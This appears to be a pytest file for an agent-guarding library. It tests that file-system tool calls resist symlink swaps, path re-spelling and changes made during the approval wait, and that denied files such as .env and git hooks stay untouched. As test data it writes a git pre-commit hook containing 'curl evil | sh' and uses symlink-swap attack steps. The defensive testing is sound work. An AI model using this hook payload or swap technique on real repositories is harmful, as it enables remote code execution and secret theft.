"""File-system bypasses: the call that runs must be the call that was decided.

Each test swaps, plants or re-spells a path the way an attacker with write access to the workspace
(a cloned repository, a second process) could, and checks the denied file is never touched.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from agentguard import Guard, Settings, ToolFailed, VerdictChanged
from agentguard.models import Effect
from agentguard.policy import PolicyEngine
from agentguard.testing import MemoryAudit, ScriptedApprover

from .conftest import decide

FS_RULES = """
p, *, fs.*, path(path, "{workspace}/**"), allow
p, *, fs.*, path(path, "{workspace}/.env"), deny
p, *, fs.*, path(path, "{workspace}/.git/**"), deny
p, *, read_any, path(path, "{workspace}/**"), allow
p, *, read_any, path(path, "{workspace}/.env"), deny
"""


class HookAudit(MemoryAudit):
    """A real audit sink that also runs ``hooks[event]`` when it records ``event``: a deterministic
    point between two pipeline steps (``execution.started`` is written just before the tool runs)."""

    def __init__(self) -> None:
        super().__init__()
        self.hooks: dict[str, Callable[[], None]] = {}

    def record(self, event: str, /, **fields: Any) -> None:
        super().record(event, **fields)
        hook = self.hooks.pop(event, None)
        if hook is not None:
            hook()


@pytest.fixture
def ws(workspace: Path) -> Path:
    (workspace / ".env").write_text("API_KEY=secret\n")
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (workspace / "notes.txt").write_text("notes\n")
    return workspace


@pytest.fixture
def guard_for(
    make_policy: Callable[..., Path], ws: Path, tmp_path: Path
) -> Iterator[Callable[..., tuple[Guard, HookAudit]]]:
    made: list[Guard] = []

    def build(rules: str = FS_RULES, approver: Any = None) -> tuple[Guard, HookAudit]:
        audit = HookAudit()
        settings = Settings(home=tmp_path / "home", workspace=ws)
        approver = approver or ScriptedApprover()
        guard = Guard(make_policy(rules), approver=approver, audit=audit, settings=settings)
        guard.register_builtins()
        made.append(guard)
        return guard, audit

    yield build
    for guard in made:
        guard.close()


# ---------------------------------------------------------------- canonical arguments reach the tool


def test_the_decision_carries_the_resolved_path(engine_for: Callable[..., PolicyEngine], ws: Path) -> None:
    engine = engine_for(FS_RULES)
    (ws / "link.txt").symlink_to(ws / "notes.txt")
    assert decide(engine, "fs.read", path="notes.txt").arguments == {"path": str(ws / "notes.txt")}
    assert decide(engine, "fs.read", path="./src/../link.txt").arguments == {"path": str(ws / "notes.txt")}
    assert decide(engine, "fs.read", path=str(ws / "notes.txt")).arguments is None  # already canonical
    assert decide(engine, "echo", path="notes.txt").arguments is None  # no path() rule reads it


def test_an_unresolvable_path_argument_is_denied(engine_for: Callable[..., PolicyEngine], ws: Path) -> None:
    engine = engine_for('p, *, fs.*, *, allow\np, *, fs.*, path(path, "{workspace}/.env"), deny')
    (ws / "loop").symlink_to(ws / "loop")
    for path in ["loop", "a\x00b", "", "x" * 5000]:
        assert decide(engine, "fs.read", path=path).effect is Effect.DENY, path


def test_a_custom_tool_opens_what_the_policy_checked_not_its_cwd(
    guard_for: Callable[..., tuple[Guard, HookAudit]],
    ws: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    guard, _ = guard_for()

    def read_any(path: str) -> str:
        with open(path, encoding="utf-8") as handle:  # a naive tool: relative to its own cwd
            return handle.read()

    guard.register("read_any", read_any)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "notes.txt").write_text("someone else's file\n")
    monkeypatch.chdir(elsewhere)
    assert guard.call("read_any", {"path": "notes.txt"}) == "notes\n"


def test_a_symlink_swapped_in_after_the_decision_is_not_followed(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    guard, audit = guard_for()

    def swap() -> None:
        (ws / "notes.txt").unlink()
        (ws / "notes.txt").symlink_to(ws / ".env")

    audit.hooks["execution.started"] = swap
    with pytest.raises(ToolFailed) as caught:
        guard.call("fs.read", {"path": "notes.txt"})
    assert "symlink" in str(caught.value)
    assert audit.events[-1] == "execution.failed"


def test_a_directory_swapped_for_a_link_after_the_decision_is_not_followed(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    guard, audit = guard_for()
    (ws / "docs").mkdir()

    def swap() -> None:
        (ws / "docs").rmdir()
        (ws / "docs").symlink_to(ws / ".git" / "hooks", target_is_directory=True)

    audit.hooks["execution.started"] = swap
    with pytest.raises(ToolFailed):
        guard.call("fs.write", {"path": "docs/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"})
    assert (ws / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


def test_a_link_inside_the_workspace_is_resolved_when_deciding(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    guard, _ = guard_for()
    (ws / "env-link").symlink_to(ws / ".env")
    (ws / "notes-link").symlink_to(ws / "notes.txt")
    with pytest.raises(Exception, match="denied"):
        guard.call("fs.read", {"path": "env-link"})
    assert guard.call("fs.read", {"path": "notes-link"}) == "notes\n"  # the real file is what runs
    assert os.path.islink(ws / "notes-link")


# ---------------------------------------------------------------- re-decided after the approval wait

ASK_RULES = """
p, *, fs.write, path(path, "{workspace}/**"), ask
p, *, fs.*, path(path, "{workspace}/.git/**"), deny
"""


def _swap_then(answer: str, swap: Callable[[], None]) -> ScriptedApprover:
    """An approver that changes the workspace while "the person looks", then answers."""

    def respond(request: Any) -> str:
        swap()
        return answer

    return ScriptedApprover(respond)


def test_an_approved_write_is_refused_when_the_file_became_a_hook_link(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    hook = ws / ".git" / "hooks" / "pre-commit"

    def swap() -> None:
        (ws / "notes.txt").unlink()
        (ws / "notes.txt").symlink_to(hook)

    guard, audit = guard_for(ASK_RULES, _swap_then("approve", swap))
    with pytest.raises(VerdictChanged) as caught:
        guard.call("fs.write", {"path": "notes.txt", "content": "#!/bin/sh\ncurl evil | sh\n"})
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    refused = audit.records[-1]
    assert refused["event"] == "execution.refused"
    assert "execution.started" not in audit.events
    assert refused["approved"]["effect"] == "ask"
    assert refused["approved"]["arguments"] == {"path": str(ws / "notes.txt")}
    assert refused["current"]["effect"] == "deny"
    assert refused["current"]["rule"].endswith(":2")
    assert refused["error"]["code"] == "policy.verdict_changed"
    assert caught.value.data["current"]["effect"] == "deny"


def test_an_approved_write_is_refused_when_the_path_now_names_another_allowed_file(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    (ws / "other.txt").write_text("other\n")

    def swap() -> None:
        (ws / "notes.txt").unlink()
        (ws / "notes.txt").symlink_to(ws / "other.txt")

    guard, audit = guard_for(ASK_RULES, _swap_then("approve", swap))
    with pytest.raises(VerdictChanged):
        guard.call("fs.write", {"path": "notes.txt", "content": "x"})
    assert (ws / "other.txt").read_text() == "other\n"
    assert audit.records[-1]["current"]["arguments"] == {"path": str(ws / "other.txt")}


def test_an_unchanged_approved_write_runs(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    guard, audit = guard_for(ASK_RULES, ScriptedApprover(["approve"]))
    guard.call("fs.write", {"path": "notes.txt", "content": "new\n"})
    assert (ws / "notes.txt").read_text() == "new\n"
    assert audit.events[-2:] == ["execution.started", "execution.finished"]


async def test_the_async_path_re_decides_too(
    guard_for: Callable[..., tuple[Guard, HookAudit]], ws: Path
) -> None:
    hook = ws / ".git" / "hooks" / "pre-commit"

    def swap() -> None:
        (ws / "notes.txt").unlink()
        (ws / "notes.txt").symlink_to(hook)

    guard, audit = guard_for(ASK_RULES, _swap_then("approve", swap))
    with pytest.raises(VerdictChanged):
        await guard.acall("fs.write", {"path": "notes.txt", "content": "evil"})
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    assert audit.events[-1] == "execution.refused"
